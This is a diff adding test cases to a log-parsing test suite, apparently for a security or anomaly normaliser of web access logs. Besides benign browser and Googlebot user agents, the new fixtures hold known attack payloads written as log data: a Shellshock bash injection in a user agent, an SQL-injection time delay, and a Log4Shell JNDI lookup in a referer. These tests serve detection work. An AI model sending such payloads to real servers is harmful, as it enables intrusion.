@@ -34,6 +34,33 @@ CASES = [
         r'203.0.113.7 - - [10/Oct/2023:13:55:36 +0000] "\x16\x03\x01" 400 226 "-" "-"',
         ("2023-10-10T13:55:36", None, "203.0.113.7", None, "␖␃␁ 4xx"),
     ),
+    (
+        "access",  # a browser is its first product, whatever it lists behind
+        '203.0.113.7 - - [10/Oct/2023:13:55:36 +0000] "GET /x HTTP/1.1" 200 5 "https://a.example/?q=b" '
+        '"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0" "198.51.100.4" 0.02',
+        ("2023-10-10T13:55:36", None, "203.0.113.7", None, "get /x mozilla 2xx"),
+    ),
+    (
+        "access",  # a robot is the name it gives
+        '203.0.113.7 - - [10/Oct/2023:13:55:36 +0000] "GET /x HTTP/1.1" 200 5 "-" '
+        '"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"',
+        ("2023-10-10T13:55:36", None, "203.0.113.7", None, "get /x mozilla googlebot 2xx"),
+    ),
+    (
+        "access",  # an agent that no client writes is evidence
+        '203.0.113.7 - - [10/Oct/2023:13:55:36 +0000] "GET /x HTTP/1.1" 200 5 "-" "() { :;}; /bin/bash -c \'id\'"',
+        ("2023-10-10T13:55:36", None, "203.0.113.7", None, "get /x () { :;}; /bin/bash -c 'id' 2xx"),
+    ),
+    (
+        "access",  # and what stands behind an honest beginning
+        '203.0.113.7 - - [10/Oct/2023:13:55:36 +0000] "GET /x HTTP/1.1" 200 5 "-" "Mozilla/5.0 AND SLEEP(5)--"',
+        ("2023-10-10T13:55:36", None, "203.0.113.7", None, "get /x mozilla /num and sleep(num)-- 2xx"),
+    ),
+    (
+        "access",  # so is such a referer
+        '203.0.113.7 - - [10/Oct/2023:13:55:36 +0000] "GET /x HTTP/1.1" 200 5 "${jndi:ldap://a/b}" "curl/8"',
+        ("2023-10-10T13:55:36", None, "203.0.113.7", None, 'get /x "${jndi:ldap://a/b}" curl 2xx'),
+    ),
     ("request", "get http://localhost:8080/shop/a.jsp?id=3", (None, None, None, None, "get /shop/a.jsp?id=num")),
     (
         "bgl",
